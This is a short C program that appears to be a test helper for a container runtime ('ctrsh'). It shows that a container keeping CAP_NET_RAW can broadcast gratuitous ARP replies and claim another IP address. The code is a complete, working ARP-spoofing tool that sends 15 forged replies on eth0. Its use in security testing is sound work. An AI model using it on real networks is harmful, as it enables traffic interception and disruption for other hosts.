/* attack2: send ARP replies on eth0 claiming argv[1] is at this interface's MAC (a raw socket:
   CAP_NET_RAW, which ctrsh's default capabilities keep). Built static by the test, run in a container. */
#include <arpa/inet.h>
#include <linux/if_packet.h>
#include <net/if.h>
#include <netinet/if_ether.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <unistd.h>

int main(int argc, char **argv) {
  if (argc < 2) return 2;
  int s = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ARP));
  if (s < 0) { perror("socket"); return 1; }
  struct ifreq ifr;
  memset(&ifr, 0, sizeof ifr);
  strcpy(ifr.ifr_name, "eth0");
  if (ioctl(s, SIOCGIFHWADDR, &ifr) < 0) { perror("hwaddr"); return 1; }
  unsigned char mac[6];
  memcpy(mac, ifr.ifr_hwaddr.sa_data, 6);
  if (ioctl(s, SIOCGIFINDEX, &ifr) < 0) { perror("index"); return 1; }
  unsigned char f[42];
  memset(f, 0xff, 6);
  memcpy(f + 6, mac, 6);
  f[12] = 0x08, f[13] = 0x06;
  struct ether_arp *a = (struct ether_arp *)(f + 14);
  a->arp_hrd = htons(1), a->arp_pro = htons(0x0800), a->arp_hln = 6, a->arp_pln = 4, a->arp_op = htons(2);
  memcpy(a->arp_sha, mac, 6);
  inet_pton(AF_INET, argv[1], a->arp_spa);
  memcpy(a->arp_tha, mac, 6); /* a gratuitous reply (target = sender): it overrides at once */
  inet_pton(AF_INET, argv[1], a->arp_tpa);
  struct sockaddr_ll to;
  memset(&to, 0, sizeof to);
  to.sll_family = AF_PACKET, to.sll_ifindex = ifr.ifr_ifindex, to.sll_halen = 6;
  memset(to.sll_addr, 0xff, 6);
  for (int i = 0; i < 15; i++) {
    if (sendto(s, f, sizeof f, 0, (struct sockaddr *)&to, sizeof to) < 0) { perror("sendto"); return 1; }
    usleep(200000);
  }
  puts("sent");
  return 0;
}
